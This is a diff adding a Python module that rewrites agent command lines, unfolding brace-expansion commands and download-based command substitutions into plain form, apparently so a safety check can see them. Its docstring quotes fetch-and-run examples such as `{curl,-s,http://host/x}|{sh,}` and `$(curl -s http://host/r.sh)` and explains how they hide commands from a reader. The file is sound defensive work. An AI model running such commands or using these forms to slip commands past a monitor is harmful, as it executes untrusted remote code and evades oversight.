@@ -1,0 +1,38 @@
+r"""A command line's command words hidden in brace expansion or run from a download's output.
+
+Two shell forms put a command where the shell reader sees none: a brace expansion in a
+command's place, which the shell unfolds into the words it lists (`{curl,-s,http://host/x}|{sh,}`
+runs `curl -s http://host/x | sh`), and a command substitution in a command's place whose
+inner command downloads (`$(curl -s http://host/r.sh)`, `` `wget -qO- http://host/x` ``): the
+download's output is run as the command. `unfolded_line` rewrites both into the plain form they
+run (the substitution as the download piped to `sh`), for the line to be read again; a brace
+list in an argument (`cp file.{c,h} dst/`, `for x in {a,b}`), a group (`{ cmd; }`) or a
+substitution whose output is an argument or a variable's value (`v=$(curl ...)`, `echo $(...)`)
+is left as it is.
+
+Read on a command line an agent is about to run, never on a response's text.
+"""
+
+from __future__ import annotations
+
+import re
+
+_BRACE_COMMAND = re.compile(r"(?:^|(?<=[|;&(]))(\s*)\{([^\s{},]+(?:,[^\s{},]*)+)\}")
+"""A brace list in a command's place: the words it unfolds into."""
+_FETCH_RUN = re.compile(
+    r"(?:^|(?<=[|;&(]))(\s*)(?:\$\(\s*((?:curl|wget)\s[^()`]*?)\s*\)|`\s*((?:curl|wget)\s[^()`]*?)\s*`)"
+)
+"""A substitution in a command's place whose command downloads: its output is run."""
+
+
+def unfolded_line(action: str) -> str:
+    """`action` with its brace-listed commands unfolded and its downloads run by substitution
+    written as piped to `sh`; `action` itself when it has neither."""
+    text = action
+    if "{" in text and "," in text:
+        text = _BRACE_COMMAND.sub(
+            lambda m: m.group(1) + " ".join(w for w in m.group(2).split(",") if w), text
+        )
+    if "$(" in text or "`" in text:
+        text = _FETCH_RUN.sub(lambda m: f"{m.group(1)}{m.group(2) or m.group(3)} | sh", text)
+    return text
